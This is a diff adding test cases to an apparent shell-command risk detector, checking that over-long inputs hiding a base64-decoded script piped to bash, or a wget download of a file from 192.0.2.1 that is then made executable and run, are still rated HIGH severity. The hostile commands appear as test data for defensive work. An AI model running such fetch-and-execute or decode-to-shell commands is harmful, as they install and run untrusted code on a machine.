@@ -107,6 +107,15 @@ describe('robust against what attackers write', () => {
     expect(assessment.partial).toBe(input.length > 16_384);
   });
 
+  it.each([
+    ['a program packed into the line', `echo ${'QUJD'.repeat(5000)} | base64 -d | bash`],
+    ['one packed within quotes', `echo "${'QUJD'.repeat(5000)}" | base64 --decode | bash`],
+    ['blanks before the command', `${' '.repeat(17_000)}wget http://192.0.2.1/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a`],
+    ['a long word before it', `x=${'a'.repeat(20_000)}; wget http://192.0.2.1/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a`],
+  ])('a line longer than what is read is HIGH by its end: %s', (_description, input) => {
+    expect(told(command(input))).toMatchObject({ severity: 'HIGH', partial: true });
+  });
+
   it('any text gives a valid assessment', () => {
     fc.assert(
       fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (input) => {
